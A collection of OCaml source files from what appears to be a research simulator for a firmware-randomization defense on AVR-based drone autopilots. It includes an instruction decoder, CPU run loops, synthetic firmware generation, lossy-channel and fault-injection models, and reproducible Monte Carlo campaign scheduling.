        | Bst (d, b) -> set_flag t Flag.t (reg t d land (1 lsl b) <> 0)
        | Sbrc (r, b) -> if reg t r land (1 lsl b) = 0 then skip_next t
        | Sbrs (r, b) -> if reg t r land (1 lsl b) <> 0 then skip_next t
        | Bset b -> set_flag t b true
        | Bclr b -> set_flag t b false
        | Wdr -> ()
        | Sleep -> t.halt <- Some Sleep_mode
        | Break -> t.halt <- Some Break_hit);
        t.cycles <- t.cycles + !cyc
      end

let run t ~max_cycles =
  let stop = t.cycles + max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None -> if t.cycles >= stop then `Budget_exhausted else (step t; go ())
  in
  go ()

let run_until t ~max_cycles pred =
  let stop = t.cycles + max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None ->
        if pred t then `Pred
        else if t.cycles >= stop then `Budget_exhausted
        else (step t; go ())
  in
  go ()

let enable_shadow_stack t ~overhead_cycles =
  t.shadow <- Some [];
  t.shadow_overhead <- overhead_cycles

let disable_shadow_stack t =
  t.shadow <- None;
  t.shadow_overhead <- 0

let shadow_depth t = match t.shadow with Some l -> List.length l | None -> 0
let interrupts_taken t = t.interrupts_taken

let set_uart_tx_pacing t ~cycles_per_byte =
  t.tx_cycles_per_byte <- max 0 cycles_per_byte

let uart_send t s = String.iter (fun c -> Queue.push (Char.code c) t.uart_rx) s
let uart_rx_pending t = Queue.length t.uart_rx

let uart_take_tx t =
  let s = Buffer.contents t.uart_tx in
  Buffer.clear t.uart_tx;
  s

let watchdog_feeds t = t.feeds
let last_feed_cycles t = t.last_feed
let io_peek t a = Memory.data_get t.mem (io_addr t a)
let io_poke t a v = Memory.data_set t.mem (io_addr t a) v
let eeprom_peek t a = Memory.eeprom_get t.mem a
let eeprom_poke t a v = Memory.eeprom_set t.mem a v
let data_peek t a = Memory.data_get t.mem a
let data_poke t a v = Memory.data_set t.mem a v
let stack_slice t ~pos ~len = Memory.data_slice t.mem ~pos ~len
