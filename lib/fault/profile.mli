(** Named fault-intensity profiles: the sweep axis of a robustness
    campaign.

    A profile is an ordered list of {e levels}; each level fixes the
    downlink/uplink channel noise, the per-tick SEU rates and the
    reflash-stream corruption rate.  [Sim.Montecarlo] runs its whole
    attack×defense grid once per level, so detection / false-alarm /
    time-to-detect become functions of fault intensity.  Every profile's
    first level is {!level_off} — the clean baseline rides along in the
    same campaign document. *)

type level = {
  name : string;
  downlink : Channel.params;  (** app → GCS telemetry link *)
  uplink : Channel.params;  (** injected attacker → app link *)
  seu : Seu.params;
  reflash : Reflash.params;
}

val level_off : level
val level_is_off : level -> bool

type t = { name : string; levels : level array }

(** Single clean level: fault machinery entirely out of the loop. *)
val none : t

(** Channel noise only (bit flips / drops / dups / bursts / jitter). *)
val lossy : t

(** Memory upsets only (SRAM + flash bit flips). *)
val seu : t

(** Everything at once, including reflash-stream corruption. *)
val stress : t

val all : t list
val of_string : string -> (t, string) result
val names : string list
