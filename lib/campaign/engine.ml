module Splitmix = Mavr_prng.Splitmix

let task_seeds ~seed ~tasks =
  if tasks < 0 then invalid_arg "Campaign.Engine.task_seeds: negative task count";
  let root = Splitmix.create ~seed in
  (* One split per task, drawn sequentially in the coordinator: the
     schedule depends only on (seed, index), never on [jobs].  Seeds are
     spread over the 63-bit space, so independent campaigns (different
     roots) never silently rerun each other's layouts the way the old
     hardcoded [i + 1] seeds did. *)
  Array.init tasks (fun _ -> Splitmix.next (Splitmix.split root))

let run_tasks ?pool ?jobs ~tasks body =
  match pool with
  | Some p -> Pool.run p ~tasks body
  | None -> Pool.with_pool ?jobs (fun p -> Pool.run p ~tasks body)

module Span = Mavr_telemetry.Span
module Json = Mavr_telemetry.Json

(* The resumable primitive: run [body] for an arbitrary subset of a
   campaign's global index space.  [seeds] is the full schedule from
   {!task_seeds}; [indices] selects which tasks actually run this round —
   a resumed run passes the not-yet-completed frontier, an early-stopping
   driver passes one batch per open cell.  Each task still draws its rng
   from [seeds.(global index)], so a task's result never depends on which
   round, process or domain ran it. *)
let iter_indices ?pool ?jobs ?progress ~seeds ~indices body =
  let tasks = Array.length indices in
  Array.iter
    (fun i ->
      if i < 0 || i >= Array.length seeds then
        invalid_arg (Printf.sprintf "Campaign.Engine.iter_indices: index %d out of schedule" i))
    indices;
  Option.iter (fun p -> Progress.add_total p tasks) progress;
  let run k =
    let i = indices.(k) in
    body ~index:i ~rng:(Splitmix.create ~seed:seeds.(i));
    Option.iter Progress.task_done progress
  in
  run_tasks ?pool ?jobs ~tasks run

let map ?pool ?jobs ?tracer ?(task_name = Printf.sprintf "task-%04d") ?progress ~seed ~tasks f =
  let seeds = task_seeds ~seed ~tasks in
  let results = Array.make tasks None in
  let body ~index:i ~rng =
    let compute () = results.(i) <- Some (f ~index:i ~rng) in
    match tracer with
    | None -> compute ()
    | Some tr ->
        (* One lane per task, sorted by index: lane content depends only
           on (seed, index), so the stripped trace is jobs-invariant. *)
        let lane = Span.lane tr ~sort:i (task_name i) in
        Span.span lane
          ~args:[ ("index", Json.Int i); ("seed", Json.Int seeds.(i)) ]
          "task" compute
  in
  iter_indices ?pool ?jobs ?progress ~seeds ~indices:(Array.init tasks Fun.id) body;
  Array.map (function Some v -> v | None -> assert false) results

let map_reduce ?pool ?jobs ?tracer ?task_name ?progress ~seed ~tasks ~map:f ~reduce init =
  Array.fold_left reduce init (map ?pool ?jobs ?tracer ?task_name ?progress ~seed ~tasks f)
