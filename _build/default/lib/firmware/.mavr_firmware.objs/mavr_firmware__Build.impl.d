lib/firmware/build.ml: Buffer Char Codegen Layout List Mavr_asm Mavr_mavlink Mavr_obj Mavr_prng Profile Runtime String
