module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Probes = Mavr_avr.Probes
module Image = Mavr_obj.Image
module Master = Mavr_core.Master

type defense = No_defense | Mavr of Master.config

(* Optional telemetry wiring: the application CPU's probe bundle owns the
   flight-recorder ring, and scenario milestones (uplink deliveries, GCS
   alarms) plus the master's flash-session spans share it so one dump
   tells the whole story in cycle order. *)
type tel = {
  probes : Probes.t;
  recorder : Mavr_telemetry.Recorder.t;
  ticks : Mavr_telemetry.Metrics.counter;
}

type t = {
  app : Cpu.t;
  master : Master.t option;
  gcs : Groundstation.t;
  sensors : Sensors.t;
  cycles_per_ms : int;
  mutable dyn : Dynamics.state;
  mutable now_ms : float;
  mutable uplink : string list;
  mutable tel : tel option;
}

let create ?(cycles_per_ms = 2000) ~image defense =
  let app = Cpu.create () in
  let master =
    match defense with
    | No_defense ->
        Cpu.load_program app image.Image.code;
        None
    | Mavr config ->
        let m = Master.create ~config () in
        Master.provision m image;
        Master.boot m ~app;
        Some m
  in
  {
    app;
    master;
    gcs = Groundstation.create ();
    sensors = Sensors.create ~seed:0xBADC0FFEE ();
    cycles_per_ms;
    dyn = Dynamics.initial;
    now_ms = 0.0;
    uplink = [];
    tel = None;
  }

let attach_telemetry ?(recorder_capacity = 256) t ~registry =
  let module M = Mavr_telemetry.Metrics in
  let probes = Probes.attach ~prefix:"app" ~recorder_capacity ~registry t.app in
  let recorder = Probes.recorder probes in
  M.sampled registry "sim.now_ms" (fun () -> int_of_float t.now_ms);
  Groundstation.attach_metrics t.gcs registry;
  (match t.master with
  | Some m -> Master.attach_telemetry m ~registry ~recorder
  | None -> ());
  t.tel <- Some { probes; recorder; ticks = M.counter registry "sim.ticks" };
  probes

let probes t = match t.tel with Some tel -> Some tel.probes | None -> None

let app t = t.app
let gcs t = t.gcs
let master t = t.master
let sensors t = t.sensors
let now_ms t = t.now_ms
let dynamics t = t.dyn

let record_event t name ~value =
  match t.tel with
  | None -> ()
  | Some tel ->
      Mavr_telemetry.Recorder.record tel.recorder ~cycle:(Cpu.cycles t.app) ~value name

let tick t =
  (* 1 ms of simulated time. *)
  (match t.tel with Some tel -> Mavr_telemetry.Metrics.incr tel.ticks | None -> ());
  t.dyn <- Dynamics.step t.dyn ~dt:0.001;
  Sensors.write_to_cpu (Sensors.sample t.sensors t.dyn) t.app;
  (match t.uplink with
  | [] -> ()
  | frame :: rest ->
      record_event t "sim.uplink_delivered" ~value:(String.length frame);
      Cpu.uart_send t.app frame;
      t.uplink <- rest);
  ignore (Cpu.run_until_halt t.app ~max_cycles:t.cycles_per_ms);
  (match t.master with Some m -> ignore (Master.check_and_recover m ~app:t.app) | None -> ());
  t.now_ms <- t.now_ms +. 1.0;
  Groundstation.feed t.gcs ~now_ms:t.now_ms (Cpu.uart_take_tx t.app);
  let fresh = Groundstation.check t.gcs ~now_ms:t.now_ms in
  List.iter
    (fun a ->
      record_event t ("gcs.alarm." ^ Groundstation.alarm_key a)
        ~value:(int_of_float t.now_ms))
    fresh

let run t ~ms =
  let n = int_of_float (Float.ceil ms) in
  for _ = 1 to n do
    tick t
  done

let inject t frames =
  record_event t "sim.inject" ~value:(List.length frames);
  t.uplink <- t.uplink @ frames

type report = {
  duration_ms : float;
  gcs_frames : int;
  gcs_alarms : Groundstation.alarm list;
  master_detections : int;
  app_halted : bool;
  reflashes : int;
}

let report t =
  {
    duration_ms = t.now_ms;
    gcs_frames = Groundstation.frames_received t.gcs;
    gcs_alarms = Groundstation.alarms t.gcs;
    master_detections =
      (match t.master with Some m -> Master.attacks_detected m | None -> 0);
    app_halted = Cpu.halted t.app <> None;
    reflashes = (match t.master with Some m -> Master.reflashes m | None -> 0);
  }

let pp_report fmt r =
  Format.fprintf fmt
    "@[<v>%.0f ms simulated; %d frames at GCS; %d GCS alarms; %d master detections; %d reflashes; app %s@]"
    r.duration_ms r.gcs_frames (List.length r.gcs_alarms) r.master_detections r.reflashes
    (if r.app_halted then "HALTED" else "running");
  List.iter (fun a -> Format.fprintf fmt "@,  alarm: %a" Groundstation.pp_alarm a) r.gcs_alarms
