lib/mavlink/parser.mli: Frame
