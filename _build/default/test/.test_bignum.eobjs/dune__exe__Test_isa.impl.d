test/test_isa.ml: Alcotest Char Helpers List Mavr_avr QCheck String
