(** Lossy serial-link model for the GCS downlink and the attacker uplink.

    The paper's stealthiness (§IV) and detection (§V–§VII) arguments are
    evaluated in this repository over a perfect channel by default; this
    module supplies the imperfect one — per-byte bit flips, byte drops
    and duplications, burst errors, and delivery jitter — so false-alarm
    and missed-detection rates can be measured under realistic radio
    noise (cf. {e UAV Resilience Against Stealthy Attacks}).

    Every random choice is drawn from a private {!Mavr_prng.Splitmix}
    generator handed in at {!create}, so a channel's behaviour is a pure
    function of (seed, traffic) — campaigns that split one seed per trial
    stay bit-identical for any job count. *)

(** Error rates are integer parts-per-million, applied per byte (flip,
    drop, dup) or per chunk (burst, jitter), keeping the arithmetic
    exact and host-independent. *)
type params = {
  bit_flip_ppm : int;  (** per byte: flip one random bit *)
  drop_ppm : int;  (** per byte: byte lost on the wire *)
  dup_ppm : int;  (** per byte: byte delivered twice *)
  burst_ppm : int;  (** per chunk: a run of bytes replaced by noise *)
  burst_len_max : int;  (** maximum burst run length (bytes) *)
  jitter_max_ticks : int;  (** per chunk: delivery delayed 0..n ticks *)
}

(** All rates zero: the channel is a wire. *)
val clean : params

val is_clean : params -> bool

type stats = {
  chunks : int;  (** nonempty chunks offered to the channel *)
  bytes_in : int;
  bytes_out : int;
  bits_flipped : int;
  bytes_dropped : int;
  bytes_duplicated : int;
  bursts : int;
  chunks_delayed : int;  (** chunks assigned a nonzero jitter *)
}

type t

val create : rng:Mavr_prng.Splitmix.t -> params -> t
val params : t -> params
val stats : t -> stats

(** [corrupt t bytes] applies the byte-level error processes (burst,
    drop, flip, dup) and returns the bytes as received.  No jitter: the
    result is delivered now.  [""] passes through untouched without
    consuming randomness. *)
val corrupt : t -> string -> string

(** [push t ~now bytes] corrupts [bytes] and enqueues them for delivery
    at [now + jitter].  Due times are clamped monotonically so delivery
    order always equals send order. *)
val push : t -> now:int -> string -> unit

(** [due t ~now] drains and concatenates every chunk due at or before
    [now]. *)
val due : t -> now:int -> string

(** [transmit t ~now bytes] is [push] then [due] — the per-tick call
    sites use this.  With {!clean} params it is the identity. *)
val transmit : t -> now:int -> string -> string

(** Bytes enqueued but not yet due (in-flight under jitter). *)
val in_flight : t -> int

(** [attach_metrics ~prefix t registry] exports the stats as sampled
    counters (additive under campaign merge). *)
val attach_metrics : prefix:string -> t -> Mavr_telemetry.Metrics.registry -> unit
