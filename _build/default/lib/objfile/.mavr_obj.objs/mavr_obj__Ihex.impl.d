lib/objfile/ihex.ml: Buffer Bytes Char List Printf String
