module Asm = Mavr_asm.Assembler
module Image = Mavr_obj.Image
module Rng = Mavr_prng.Splitmix

type t = {
  image : Image.t;
  asm : Asm.output;
  profile : Profile.t;
  toolchain : Profile.toolchain;
  pad_bytes : int;
}

let runtime_function_count = List.length Runtime.function_names

let crc_extra_table =
  String.init 256 (fun msgid -> Char.chr (Mavr_mavlink.Messages.crc_extra_of msgid))

(* Filler rodata for the calibration pad: parameter-name-like text, the
   dominant constant data in real ArduPilot images. *)
let pad_text n =
  let base = "GYRO_SCALE;ACRO_PITCH_RATE;THR_FAILSAFE;WP_RADIUS;NAVL1_PERIOD;COMPASS_OFS_X;" in
  let buf = Buffer.create n in
  while Buffer.length buf < n do
    Buffer.add_string buf base
  done;
  Buffer.sub buf 0 n

let assemble ~pad (profile : Profile.t) (toolchain : Profile.toolchain) =
  let filler_count = max 0 (profile.n_functions - runtime_function_count) in
  let rng = Rng.create ~seed:profile.seed in
  let avg_body_units =
    if profile.target_size = 0 then 10
    else
      let code_budget = profile.target_size * 82 / 100 in
      let per_func = code_budget / max 1 filler_count in
      (* a body unit is ~2 instructions of ~2 bytes each *)
      max 4 (min 400 (per_func / 5))
  in
  let fillers = Codegen.generate ~toolchain ~rng ~count:filler_count ~avg_body_units in
  let roots = List.init (min 4 filler_count) Codegen.name in
  let vtable_targets =
    if filler_count = 0 then List.init Layout.vtable_entries (fun _ -> "sensor_update")
    else
      List.init Layout.vtable_entries (fun j ->
          Codegen.name (j * filler_count / Layout.vtable_entries))
  in
  (* Indirect calls go through [icall], which only sees the 16-bit Z
     register — functions above the 128 KB line are unreachable from a
     stored pointer, and randomization can move any function there.  Do
     what avr-gcc does on >128 KB parts: route every vtable entry through
     a [jmp] trampoline in the low fixed region, whose word address
     always fits 16 bits and whose absolute target the randomizer's
     patcher rewrites in place. *)
  let tramp_name j = Printf.sprintf "__vt_tramp_%d" j in
  let trampolines =
    [ Asm.Label "__trampolines" ]
    @ List.concat
        (List.mapi
           (fun j target -> [ Asm.Label (tramp_name j); Asm.Jmp_sym target ])
           vtable_targets)
  in
  let vectors =
    Runtime.vectors () @ trampolines
    @ [ Asm.Label "__data_init" ]
    @ List.mapi (fun j _ -> Asm.Word_sym (tramp_name j)) vtable_targets
    @ [ Asm.Label "__data_init_end"; Asm.Label "crc_extra_tbl"; Asm.Raw_bytes crc_extra_table ]
  in
  let funcs = Runtime.functions ~toolchain ~roots () @ fillers in
  let data = if pad > 0 then [ Asm.Label "__rodata_pad"; Asm.Raw_bytes (pad_text pad) ] else [] in
  let program = { Asm.vectors; funcs; data; defines = Runtime.defines } in
  Asm.assemble ~relax:toolchain.relax program

let build ?pad (profile : Profile.t) toolchain =
  let pad =
    match pad with
    | Some p -> p
    | None ->
        if profile.target_size = 0 then 0
        else
          let dry = assemble ~pad:0 profile Profile.stock in
          max 0 (profile.target_size - String.length dry.code)
  in
  let asm = assemble ~pad profile toolchain in
  let exec_low_end = Asm.label_value asm "__data_init" in
  { image = Image.of_assembly ~exec_low_end asm; asm; profile; toolchain; pad_bytes = pad }

let build_pair profile =
  let stock = build profile Profile.stock in
  let mavr = build ~pad:stock.pad_bytes profile Profile.mavr in
  (stock, mavr)

let label t name = Asm.label_value t.asm name
let function_count t = Image.function_count t.image
let code_size t = Image.size t.image
