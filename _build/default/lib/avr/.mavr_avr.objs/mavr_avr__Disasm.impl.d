lib/avr/disasm.ml: Buffer Decode Format Isa List String
