lib/avr/cpu.mli: Device Format Memory
