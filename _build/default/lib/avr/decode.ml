open Isa

let sign_extend value bits =
  let m = 1 lsl (bits - 1) in
  (value lxor m) - m

let decode_alu_operands w =
  let d = (w lsr 4) land 0x1F in
  let r = ((w lsr 5) land 0x10) lor (w land 0x0F) in
  (d, r)

let decode_imm_operands w =
  let d = 16 + ((w lsr 4) land 0x0F) in
  let k = ((w lsr 4) land 0xF0) lor (w land 0x0F) in
  (d, k)

(* LDD/STD: 10q0 qq?d dddd ?qqq. *)
let decode_displacement w =
  let q = ((w lsr 8) land 0x20) lor ((w lsr 7) land 0x18) lor (w land 0x07) in
  let r = (w lsr 4) land 0x1F in
  let store = w land 0x0200 <> 0 in
  let b = if w land 0x0008 <> 0 then Y else Z in
  if store then Std (b, q, r) else Ldd (r, b, q)

let decode_load_store w w2 =
  let d = (w lsr 4) land 0x1F in
  let store = w land 0x0200 <> 0 in
  match w land 0x0F with
  | 0x0 -> ((if store then Sts (w2, d) else Lds (d, w2)), 2)
  | 0x1 -> ((if store then St (Z_inc, d) else Ld (d, Z_inc)), 1)
  | 0x2 -> ((if store then St (Z_dec, d) else Ld (d, Z_dec)), 1)
  | 0x4 when not store -> (Lpm (d, false), 1)
  | 0x5 when not store -> (Lpm (d, true), 1)
  | 0x6 when not store -> (Elpm (d, false), 1)
  | 0x7 when not store -> (Elpm (d, true), 1)
  | 0x9 -> ((if store then St (Y_inc, d) else Ld (d, Y_inc)), 1)
  | 0xA -> ((if store then St (Y_dec, d) else Ld (d, Y_dec)), 1)
  | 0xC -> ((if store then St (X, d) else Ld (d, X)), 1)
  | 0xD -> ((if store then St (X_inc, d) else Ld (d, X_inc)), 1)
  | 0xE -> ((if store then St (X_dec, d) else Ld (d, X_dec)), 1)
  | 0xF -> ((if store then Push d else Pop d), 1)
  | _ -> (Data w, 1)

let decode_misc w w2 =
  let d = (w lsr 4) land 0x1F in
  match w land 0x0F with
  | 0x0 -> (Com d, 1)
  | 0x1 -> (Neg d, 1)
  | 0x2 -> (Swap d, 1)
  | 0x3 -> (Inc d, 1)
  | 0x5 -> (Asr d, 1)
  | 0x6 -> (Lsr d, 1)
  | 0x7 -> (Ror d, 1)
  | 0xA -> (Dec d, 1)
  | 0x8 -> (
      match w with
      | 0x9508 -> (Ret, 1)
      | 0x9518 -> (Reti, 1)
      | 0x9588 -> (Sleep, 1)
      | 0x9598 -> (Break, 1)
      | 0x95A8 -> (Wdr, 1)
      | 0x95C8 -> (Lpm0, 1)
      | 0x95D8 -> (Elpm0, 1)
      | _ ->
          if w land 0xFF8F = 0x9408 then (Bset ((w lsr 4) land 7), 1)
          else if w land 0xFF8F = 0x9488 then (Bclr ((w lsr 4) land 7), 1)
          else (Data w, 1))
  | 0x9 -> (
      match w with 0x9409 -> (Ijmp, 1) | 0x9509 -> (Icall, 1) | _ -> (Data w, 1))
  | 0xC | 0xD ->
      let high = (((w lsr 4) land 0x1F) lsl 1) lor (w land 1) in
      (Jmp ((high lsl 16) lor w2), 2)
  | 0xE | 0xF ->
      let high = (((w lsr 4) land 0x1F) lsl 1) lor (w land 1) in
      (Call ((high lsl 16) lor w2), 2)
  | _ -> (Data w, 1)

let decode_adiw_operands w =
  let d = 24 + (((w lsr 4) land 0x3) * 2) in
  let k = ((w lsr 2) land 0x30) lor (w land 0x0F) in
  (d, k)

let decode w w2 =
  if w = 0x0000 then (Nop, 1)
  else if w land 0xFF00 = 0x0100 then
    (Movw ((((w lsr 4) land 0xF) * 2), (w land 0xF) * 2), 1)
  else
    match w land 0xFC00 with
    | 0x0400 -> let d, r = decode_alu_operands w in (Cpc (d, r), 1)
    | 0x0800 -> let d, r = decode_alu_operands w in (Sbc (d, r), 1)
    | 0x0C00 -> let d, r = decode_alu_operands w in (Add (d, r), 1)
    | 0x1000 -> let d, r = decode_alu_operands w in (Cpse (d, r), 1)
    | 0x1400 -> let d, r = decode_alu_operands w in (Cp (d, r), 1)
    | 0x1800 -> let d, r = decode_alu_operands w in (Sub (d, r), 1)
    | 0x1C00 -> let d, r = decode_alu_operands w in (Adc (d, r), 1)
    | 0x2000 -> let d, r = decode_alu_operands w in (And (d, r), 1)
    | 0x2400 -> let d, r = decode_alu_operands w in (Eor (d, r), 1)
    | 0x2800 -> let d, r = decode_alu_operands w in (Or (d, r), 1)
    | 0x2C00 -> let d, r = decode_alu_operands w in (Mov (d, r), 1)
    | 0x9C00 -> let d, r = decode_alu_operands w in (Mul (d, r), 1)
    | _ -> (
        match w land 0xF000 with
        | 0x3000 -> let d, k = decode_imm_operands w in (Cpi (d, k), 1)
        | 0x4000 -> let d, k = decode_imm_operands w in (Sbci (d, k), 1)
        | 0x5000 -> let d, k = decode_imm_operands w in (Subi (d, k), 1)
        | 0x6000 -> let d, k = decode_imm_operands w in (Ori (d, k), 1)
        | 0x7000 -> let d, k = decode_imm_operands w in (Andi (d, k), 1)
        | 0xE000 -> let d, k = decode_imm_operands w in (Ldi (d, k), 1)
        | 0xC000 -> (Rjmp (sign_extend (w land 0xFFF) 12), 1)
        | 0xD000 -> (Rcall (sign_extend (w land 0xFFF) 12), 1)
        | _ ->
            if w land 0xD000 = 0x8000 then (decode_displacement w, 1)
            else if w land 0xFC00 = 0x9000 then decode_load_store w w2
            else if w land 0xFE00 = 0x9400 then decode_misc w w2
            else if w land 0xFF00 = 0x9600 then
              let d, k = decode_adiw_operands w in (Adiw (d, k), 1)
            else if w land 0xFF00 = 0x9700 then
              let d, k = decode_adiw_operands w in (Sbiw (d, k), 1)
            else if w land 0xFF00 = 0x9800 then (Cbi ((w lsr 3) land 0x1F, w land 7), 1)
            else if w land 0xFF00 = 0x9900 then (Sbic ((w lsr 3) land 0x1F, w land 7), 1)
            else if w land 0xFF00 = 0x9A00 then (Sbi ((w lsr 3) land 0x1F, w land 7), 1)
            else if w land 0xFF00 = 0x9B00 then (Sbis ((w lsr 3) land 0x1F, w land 7), 1)
            else if w land 0xF800 = 0xB000 then
              let a = ((w lsr 5) land 0x30) lor (w land 0x0F) in
              (In ((w lsr 4) land 0x1F, a), 1)
            else if w land 0xF800 = 0xB800 then
              let a = ((w lsr 5) land 0x30) lor (w land 0x0F) in
              (Out (a, (w lsr 4) land 0x1F), 1)
            else if w land 0xFC00 = 0xF000 then
              (Brbs (w land 7, sign_extend ((w lsr 3) land 0x7F) 7), 1)
            else if w land 0xFC00 = 0xF400 then
              (Brbc (w land 7, sign_extend ((w lsr 3) land 0x7F) 7), 1)
            else if w land 0xFE08 = 0xF800 then (Bld ((w lsr 4) land 0x1F, w land 7), 1)
            else if w land 0xFE08 = 0xFA00 then (Bst ((w lsr 4) land 0x1F, w land 7), 1)
            else if w land 0xFE08 = 0xFC00 then (Sbrc ((w lsr 4) land 0x1F, w land 7), 1)
            else if w land 0xFE08 = 0xFE00 then (Sbrs ((w lsr 4) land 0x1F, w land 7), 1)
            else (Data w, 1))

let word_at code pos =
  if pos + 1 < String.length code then
    Char.code code.[pos] lor (Char.code code.[pos + 1] lsl 8)
  else if pos < String.length code then Char.code code.[pos]
  else 0

let decode_bytes code pos =
  if pos land 1 <> 0 then invalid_arg "Decode.decode_bytes: odd offset";
  let w1 = word_at code pos in
  let w2 = word_at code (pos + 2) in
  let i, words = decode w1 w2 in
  if words = 2 && pos + 3 >= String.length code then (Data w1, 2) else (i, words * 2)

let fold_program code ~pos ~len f acc =
  let stop = pos + len in
  let rec go acc p =
    if p + 1 >= stop then acc
    else
      let i, size = decode_bytes code p in
      go (f acc p i) (p + size)
  in
  go acc pos
