(** Deterministic generator of filler functions.

    Produces the body of the synthetic autopilot: hundreds of small
    functions with realistic shapes — callee-saved register save/restore,
    ALU work on caller-saved registers, loads/stores to per-function
    scratch addresses, calls along a bounded-depth DAG, local branches,
    Y-indexed frames — so that the image exhibits the structures the MAVR
    randomizer and the gadget scanner must handle.  With the stock
    toolchain a share of functions use the consolidated
    [__epilogue_restores__] tail (the [-mcall-prologues] model); some
    functions tail-jump into the middle of [__shared_tail] (the switch
    trampoline patching case, §VI-B3).

    All choices derive from the given generator; the same seed yields the
    same functions byte for byte. *)

(** [generate ~toolchain ~rng ~count ~avg_body_units] returns the filler
    functions [fn_0000 .. fn_<count-1>] in index order. *)
val generate :
  toolchain:Profile.toolchain ->
  rng:Mavr_prng.Splitmix.t ->
  count:int ->
  avg_body_units:int ->
  Mavr_asm.Assembler.func list

(** [name i] is the canonical filler-function name ["fn_%04d"]. *)
val name : int -> string
