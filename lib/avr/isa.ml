type reg = int

type ptr = X | X_inc | X_dec | Y_inc | Y_dec | Z_inc | Z_dec

type base = Y | Z

type t =
  | Nop
  | Movw of reg * reg
  | Ldi of reg * int
  | Mov of reg * reg
  | Add of reg * reg
  | Adc of reg * reg
  | Sub of reg * reg
  | Sbc of reg * reg
  | And of reg * reg
  | Or of reg * reg
  | Eor of reg * reg
  | Cp of reg * reg
  | Cpc of reg * reg
  | Cpse of reg * reg
  | Mul of reg * reg
  | Subi of reg * int
  | Sbci of reg * int
  | Andi of reg * int
  | Ori of reg * int
  | Cpi of reg * int
  | Com of reg
  | Neg of reg
  | Inc of reg
  | Dec of reg
  | Lsr of reg
  | Ror of reg
  | Asr of reg
  | Swap of reg
  | Push of reg
  | Pop of reg
  | Ret
  | Reti
  | Icall
  | Ijmp
  | Call of int
  | Jmp of int
  | Rcall of int
  | Rjmp of int
  | Brbs of int * int
  | Brbc of int * int
  | In of reg * int
  | Out of int * reg
  | Lds of reg * int
  | Sts of int * reg
  | Ldd of reg * base * int
  | Std of base * int * reg
  | Ld of reg * ptr
  | St of ptr * reg
  | Adiw of reg * int
  | Sbiw of reg * int
  | Lpm0
  | Lpm of reg * bool
  | Sbi of int * int
  | Cbi of int * int
  | Sbic of int * int
  | Sbis of int * int
  | Bld of reg * int
  | Bst of reg * int
  | Sbrc of reg * int
  | Sbrs of reg * int
  | Elpm0
  | Elpm of reg * bool
  | Bset of int
  | Bclr of int
  | Wdr
  | Sleep
  | Break
  | Data of int

let equal (a : t) (b : t) = a = b

let size_words = function
  | Call _ | Jmp _ | Lds _ | Sts _ -> 2
  | _ -> 1

let is_useful_for_gadget = function
  | Std _ | St _ | Sts _ | Out _ | Pop _ | Mov _ | Movw _ | Ldi _ | In _ | Ld _ | Ldd _
  | Lds _ | Adiw _ | Sbiw _ | Add _ | Sub _ | Subi _ | Eor _ ->
      true
  | Nop | Adc _ | Sbc _ | And _ | Or _ | Cp _ | Cpc _ | Cpse _ | Mul _ | Sbci _ | Andi _
  | Ori _ | Cpi _ | Com _ | Neg _ | Inc _ | Dec _ | Lsr _ | Ror _ | Asr _ | Swap _
  | Push _ | Ret | Reti | Icall | Ijmp | Call _ | Jmp _ | Rcall _ | Rjmp _ | Brbs _
  | Brbc _ | Lpm0 | Lpm _ | Elpm0 | Elpm _ | Sbi _ | Cbi _ | Sbic _ | Sbis _ | Bld _
  | Bst _ | Sbrc _ | Sbrs _ | Bset _ | Bclr _ | Wdr | Sleep | Break | Data _ ->
      false

module Transfer = struct
  type t =
    | Straight
    | Branch
    | Jump
    | Call
    | Indirect_jump
    | Indirect_call
    | Skip
    | Return
    | Stop
end

let transfer : t -> Transfer.t = function
  | Brbs _ | Brbc _ -> Transfer.Branch
  | Jmp _ | Rjmp _ -> Transfer.Jump
  | Call _ | Rcall _ -> Transfer.Call
  | Ijmp -> Transfer.Indirect_jump
  | Icall -> Transfer.Indirect_call
  | Cpse _ | Sbic _ | Sbis _ | Sbrc _ | Sbrs _ -> Transfer.Skip
  | Ret | Reti -> Transfer.Return
  | Break | Data _ -> Transfer.Stop
  | _ -> Transfer.Straight

let stack_push_bytes ~pc_bytes = function
  | Push _ -> 1
  | Call _ | Rcall _ | Icall -> pc_bytes
  | _ -> 0

let stack_pop_bytes ~pc_bytes = function
  | Pop _ -> 1
  | Ret | Reti -> pc_bytes
  | _ -> 0

module Flag = struct
  let c = 0
  let z = 1
  let n = 2
  let v = 3
  let s = 4
  let h = 5
  let t = 6
  let i = 7
end

let pp_ptr fmt p =
  Format.pp_print_string fmt
    (match p with
    | X -> "X"
    | X_inc -> "X+"
    | X_dec -> "-X"
    | Y_inc -> "Y+"
    | Y_dec -> "-Y"
    | Z_inc -> "Z+"
    | Z_dec -> "-Z")

let base_name = function Y -> "Y" | Z -> "Z"

let branch_mnemonic ~set b =
  match (set, b) with
  | true, 0 -> "brcs"
  | true, 1 -> "breq"
  | true, 2 -> "brmi"
  | true, 3 -> "brvs"
  | true, 4 -> "brlt"
  | false, 0 -> "brcc"
  | false, 1 -> "brne"
  | false, 2 -> "brpl"
  | false, 3 -> "brvc"
  | false, 4 -> "brge"
  | true, _ -> Printf.sprintf "brbs %d," b
  | false, _ -> Printf.sprintf "brbc %d," b

let pp fmt = function
  | Nop -> Format.fprintf fmt "nop"
  | Movw (d, r) -> Format.fprintf fmt "movw r%d, r%d" d r
  | Ldi (d, k) -> Format.fprintf fmt "ldi r%d, 0x%02X" d k
  | Mov (d, r) -> Format.fprintf fmt "mov r%d, r%d" d r
  | Add (d, r) -> Format.fprintf fmt "add r%d, r%d" d r
  | Adc (d, r) -> Format.fprintf fmt "adc r%d, r%d" d r
  | Sub (d, r) -> Format.fprintf fmt "sub r%d, r%d" d r
  | Sbc (d, r) -> Format.fprintf fmt "sbc r%d, r%d" d r
  | And (d, r) -> Format.fprintf fmt "and r%d, r%d" d r
  | Or (d, r) -> Format.fprintf fmt "or r%d, r%d" d r
  | Eor (d, r) -> Format.fprintf fmt "eor r%d, r%d" d r
  | Cp (d, r) -> Format.fprintf fmt "cp r%d, r%d" d r
  | Cpc (d, r) -> Format.fprintf fmt "cpc r%d, r%d" d r
  | Cpse (d, r) -> Format.fprintf fmt "cpse r%d, r%d" d r
  | Mul (d, r) -> Format.fprintf fmt "mul r%d, r%d" d r
